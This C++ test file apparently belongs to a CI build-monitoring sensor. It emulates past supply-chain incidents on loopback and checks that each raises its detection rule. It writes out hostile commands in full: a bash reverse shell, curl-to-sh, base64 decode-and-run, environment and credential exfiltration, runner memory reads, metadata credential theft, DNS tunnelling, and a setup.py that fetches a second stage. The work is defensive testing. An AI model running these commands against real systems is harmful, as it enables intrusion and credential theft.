// Issue 19: the incidents behind the CI rule pack, emulated on loopback
// under the real sensor (`buildtrail-agent run`, delivering to the real
// collector, which detects): each raises its rule on the right build, and a
// benign build raises nothing. An unexpected publish (BT-28) and a poisoned
// artifact (BT-27) are baseline rules: their job learns from two builds
// first, each on a collector of its own.
#include <doctest/doctest.h>
#include <signal.h>
#include <sys/wait.h>

#include <fstream>

#include "tests/agent/incident_fixtures.h"

using namespace bt;
using namespace bt::testing::incidents;
namespace capture = bt::testing::capture;

namespace {

// One collector for every emulation: each build's alerts are told apart by
// its build record.
Sensor& sensor() {
  static Sensor s("incidents");
  return s;
}

void expect(const std::string& run_id, const std::multiset<std::string>& rules, const std::string& must) {
  MESSAGE("build " << run_id << " raised " << join(rules));
  CHECK(rules.count(must) >= 1);
}

}  // namespace

TEST_CASE("reverse shell: bash -i on a TCP connection to a listener (BT-13)") {
  capture::Listener attacker;
  std::thread operator_([&] {  // the attacker's side: one command, then exit
    const int c = ::accept(attacker.fd, nullptr, nullptr);
    if (c < 0) return;
    const std::string cmd = "id >/dev/null; exit\n";
    (void)!::send(c, cmd.data(), cmd.size(), MSG_NOSIGNAL);
    char buf[256];
    while (::recv(c, buf, sizeof buf, 0) > 0) {}
    ::close(c);
  });
  const auto r =
      sensor().build("1301", "timeout 20 bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(attacker.port) + " 0>&1");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  operator_.join();
  expect("1301", sensor().rules_of("1301"), "BT-13");
}

TEST_CASE("pipe to shell: curl of a script piped into sh (BT-14)") {
  HttpServer site("echo installed >/dev/null\n");
  const auto r = sensor().build("1401", "curl -fsS " + site.url("/install.sh") + " | sh");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(site.requests == 1);
  expect("1401", sensor().rules_of("1401"), "BT-14");
}

TEST_CASE("decode and execute: base64 -d piped into bash (BT-15)") {
  const auto r = sensor().build("1501", "echo ZWNobyBkZWNvZGVkID4vZGV2L251bGwK | base64 -d | bash");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  expect("1501", sensor().rules_of("1501"), "BT-15");
}

TEST_CASE("environment exfiltration by an uploader (BT-12), and a credential read then an upload") {
  HttpServer drop("ok");
  const auto& s = sensor();
  REQUIRE(testing::run_command("mkdir -p " + s.home + "/.aws && printf '[default]\\naws_access_key_id = " +
                               capture::kFakeAwsKey + "\\n' > " + s.home + "/.aws/credentials")
              .exit_code == 0);
  // The Codecov uploader's way: the environment, piped or as a file.
  auto r = s.build("1201", "env | curl -fsS --data-binary @- " + drop.url("/env") + " >/dev/null\n" +
                               "curl -fsS -d @/proc/self/environ " + drop.url("/environ") + " >/dev/null");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(drop.requests == 2);
  expect("1201", s.rules_of("1201"), "BT-12");
  // Shai-Hulud's: a credential file read, then posted.
  r = s.build("1202",
              "cat $HOME/.aws/credentials > creds.txt\ncurl -fsS -F f=@creds.txt " + drop.url("/up") +
                  " >/dev/null\nrm creds.txt",
              "", s.d.root);
  CHECK(r.exit_code == 0);
  expect("1202", s.rules_of("1202"), "BT-12-read-then-upload");
}

TEST_CASE("runner memory read: a build step reads Runner.Worker's environment and memory (BT-07-runner)") {
  const auto& s = sensor();
  // A stand-in runner outside the build, named as GitHub's worker is.
  const std::string worker = s.d.root + "/Runner.Worker";
  REQUIRE(::symlink("/bin/sleep", worker.c_str()) == 0);
  const pid_t pid = ::fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    ::execl(worker.c_str(), "Runner.Worker", "60", static_cast<char*>(nullptr));
    ::_exit(127);
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  const std::string p = std::to_string(pid);
  // tj-actions/changed-files: /proc/<worker>/maps, then its memory.
  const auto r = s.build("701", "tr '\\0' '\\n' < /proc/" + p + "/environ > /dev/null\n" + "head -c 4096 /proc/" + p +
                                    "/maps > /dev/null\n" + "dd if=/proc/" + p +
                                    "/mem bs=4096 count=1 skip=1 of=/dev/null 2>/dev/null || true");
  ::kill(pid, SIGKILL);
  ::waitpid(pid, nullptr, 0);
  INFO(r.output);
  CHECK(r.exit_code == 0);
  const auto rules = s.rules_of("701");
  expect("701", rules, "BT-07-runner");
  CHECK(rules.count("BT-07") == 0);  // the runner is named by BT-07-runner, not twice
  CHECK(rules.count("BT-08") == 0);
}

TEST_CASE("metadata credential theft: the IAM credentials path of a metadata endpoint (BT-06)") {
  HttpServer imds("{\"AccessKeyId\":\"" + capture::kFakeAwsKey + "\"}", "127.0.0.9");
  const auto r = sensor().build(
      "601", "curl -fsS " + imds.url("/latest/meta-data/iam/security-credentials/ci-role") + " >/dev/null",
      "--metadata-endpoint 127.0.0.9");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(imds.requests == 1);
  expect("601", sensor().rules_of("601"), "BT-06");
}

TEST_CASE("DNS tunnelling: long and many encoded labels to a loopback resolver (BT-03)") {
  if (!can_serve_dns()) {
    MESSAGE("skipped: 127.0.0.77:53 cannot be bound (needs root, and the port free)");
    return;
  }
  capture::DnsServer dns;
  // 30 questions whose first label is 24 hex characters of a "secret",
  // and one whose label is 60: what dnscat/iodine-like tunnels send.
  const std::string py =
      "import socket, struct, binascii\n"
      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)\n"
      "def ask(name, i):\n"
      "    q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in "
      "name.split('.')) + b'\\0\\0\\1\\0\\1'\n"
      "    u.sendto(q, ('127.0.0.77', 53)); u.recvfrom(512)\n"
      "data = binascii.hexlify(b'AWS_SECRET_ACCESS_KEY=not-a-real-secret-at-all-just-a-test').decode()\n"
      "for i in range(30):\n"
      "    ask('%s%02d.t.exfil.test' % (data[i:i + 22], i), i + 1)\n"
      "ask(data[:60] + '.x.exfil.test', 99)\n";
  std::ofstream(sensor().d.root + "/tunnel.py") << py;
  const auto r = sensor().build("301", "/usr/bin/python3 " + sensor().d.root + "/tunnel.py");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  const auto rules = sensor().rules_of("301");
  expect("301", rules, "BT-03");
  expect("301", rules, "BT-03-many");
}

TEST_CASE("a miner: a pool URL and miner flags in argv (BT-18)") {
  const auto& s = sensor();
  const auto r = s.build("1801",
                         "cp /bin/true ./xmrig && ./xmrig -o stratum+tcp://127.0.0.1:3333 -u 4AbCdEf --donate-level 1"
                         " -B; rm -f xmrig",
                         "", s.d.root);
  INFO(r.output);
  CHECK(r.exit_code == 0);
  expect("1801", s.rules_of("1801"), "BT-18");
}

TEST_CASE("credential hunting: grep for keys and find for key files (BT-11)") {
  const auto& s = sensor();
  REQUIRE(testing::run_command("mkdir -p " + s.home +
                               "/.ssh && printf -- '-----BEGIN RSA PRIVATE KEY-----\\nfake\\n' > " + s.home +
                               "/.ssh/id_rsa")
              .exit_code == 0);
  const auto r = s.build("1101",
                         "grep -r aws_access_key_id $HOME >/dev/null 2>&1 || true\n"
                         "grep -rl 'BEGIN RSA PRIVATE KEY' $HOME >/dev/null 2>&1 || true\n"
                         "find $HOME -name id_rsa >/dev/null");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  const auto rules = s.rules_of("1101");
  expect("1101", rules, "BT-11");
}

TEST_CASE("source overwrite: a workspace file changed during the build (BT-21, --watch-workspace)") {
  const auto& s = sensor();
  const std::string ws = s.d.root + "/ws";
  REQUIRE(testing::run_command("mkdir -p " + ws + "/src && echo 'int main(void) { return 0; }' > " + ws + "/src/main.c")
              .exit_code == 0);
  // SUNSPOT: the source replaced by another program while the build runs,
  // then compiled. (A redirection by the step's own shell, `printf > src/main.c`,
  // is recorded only some of the time under `run`: an open issue.)
  const auto r = s.build("2101",
                         "printf 'int main(void) { return 1 - 1; }\\n' > ../implant.c\ncp ../implant.c src/main.c\n"
                         "cc -o app src/main.c && ./app",
                         "--watch-workspace 'src/**'", ws);
  INFO(r.output);
  CHECK(r.exit_code == 0);
  expect("2101", s.rules_of("2101"), "BT-21");
}

TEST_CASE("a malicious package: its setup.py fetches a second stage while pip installs it (BT-17)") {
  HttpServer stage2("echo stage two\n");
  const auto& s = sensor();
  const std::string pkg = s.d.root + "/evilpkg";
  REQUIRE(testing::run_command("mkdir -p " + pkg + "/evil && touch " + pkg + "/evil/__init__.py").exit_code == 0);
  std::ofstream(pkg + "/setup.py") << "import os\nfrom setuptools import setup\n"
                                   << "os.system('curl -fsS " << stage2.url("/stage2") << " -o /dev/null')\n"
                                   << "setup(name='evil', version='0.1', packages=['evil'])\n";
  const auto r =
      s.build("1701", "/usr/bin/python3 -m pip install -q --no-index --no-deps --no-build-isolation --target " +
                          s.d.root + "/site-1701 " + pkg + " >/dev/null 2>&1");
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(stage2.requests >= 1);
  expect("1701", s.rules_of("1701"), "BT-17");
}

TEST_CASE("an unexpected publish: a job that never uploaded uploads its artifact (BT-28)") {
  HttpServer registry("ok");
  const Sensor s("incidents-publish", {"--baseline-builds", "2"});
  const std::string ws = s.d.root + "/ws";
  REQUIRE(testing::run_command("mkdir -p " + ws + "/dist").exit_code == 0);
  const std::string build = "printf 'int main(void){return 0;}' > m.c && cc -o m m.c && tar czf dist/app.tgz m\n";
  for (const char* run_id : {"2801", "2802"}) {
    const auto r = s.build(run_id, build, "", ws, branch_env("main", false));
    INFO(r.output);
    CHECK(r.exit_code == 0);
    CHECK(s.rules_of(run_id).empty());
  }
  const auto r = s.build("2803", build + "curl -fsS -T dist/app.tgz " + registry.url("/app.tgz") + " >/dev/null\n", "",
                         ws, branch_env("main", false));
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(registry.requests == 1);
  expect("2803", s.rules_of("2803"), "BT-28");
}

TEST_CASE("a poisoned artifact: rewritten between its making and its upload (BT-27)") {
  HttpServer registry("ok");
  const Sensor s("incidents-artifact", {"--baseline-builds", "2"});
  const std::string ws = s.d.root + "/ws";
  REQUIRE(testing::run_command("mkdir -p " + ws + "/dist && printf x > " + ws + "/m").exit_code == 0);
  const std::string make = "/usr/bin/tar czf dist/app.tgz m\n";
  const std::string upload = "/usr/bin/curl -fsS -T dist/app.tgz " + registry.url("/app.tgz") + " >/dev/null\n";
  for (const char* run_id : {"2701", "2702"}) {
    const auto r = s.build(run_id, make + upload, "", ws, branch_env("main", false));
    INFO(r.output);
    CHECK(r.exit_code == 0);
    CHECK(s.rules_of(run_id).empty());
  }
  // Ultralytics' shape: the artifact changed after the build made it.
  const auto r = s.build("2703", make + "/usr/bin/python3 -c \"open('dist/app.tgz', 'ab').write(b'x')\"\n" + upload, "",
                         ws, branch_env("main", false));
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(registry.requests == 3);
  expect("2703", s.rules_of("2703"), "BT-27");
}

TEST_CASE("a benign build raises no alert: compile, git commit, a local package install") {
  const auto& s = sensor();
  const std::string ws = s.d.root + "/benign";
  REQUIRE(testing::run_command("mkdir -p " + ws + "/pkg/hello && cd " + ws +
                               " && printf '#include <stdio.h>\\nint main(void) { puts(\"hi\"); return 0; }\\n' > "
                               "main.c && printf 'def hi():\\n    return 1\\n' > pkg/hello/__init__.py && printf "
                               "'[project]\\nname = \"hello\"\\nversion = \"0.1\"\\n' > pkg/pyproject.toml")
              .exit_code == 0);
  const std::string script =
      "set -e\n"
      "cc -O2 -o main main.c && ./main >/dev/null\n"
      "git init -q repo && cp main.c repo/ && cd repo\n"
      "git add main.c && git -c user.name=ci -c user.email=ci@example.com commit -qm 'first'\n"
      "git log --oneline >/dev/null && git status --short >/dev/null\n"
      "cd ..\n"
      "grep -c main main.c >/dev/null\n"
      "tar czf src.tgz main.c && base64 src.tgz > src.b64\n"
      "/usr/bin/python3 -m pip install -q --no-index --no-deps --no-build-isolation --target site ./pkg"
      " >/dev/null 2>&1 || /usr/bin/python3 -c 'import shutil; shutil.copytree(\"pkg/hello\", \"site/hello\")'\n"
      "PYTHONPATH=site /usr/bin/python3 -c 'import hello; assert hello.hi() == 1'\n"
      "mkdir -p node_modules/left-pad && cp -r pkg/hello node_modules/left-pad/ && ls node_modules >/dev/null\n";
  const auto r = s.build("9001", script, "--watch-workspace 'src/**'", ws);
  INFO(r.output);
  CHECK(r.exit_code == 0);
  const auto rules = s.rules_of("9001");
  INFO("benign build raised " << join(rules));
  CHECK(rules.empty());
}
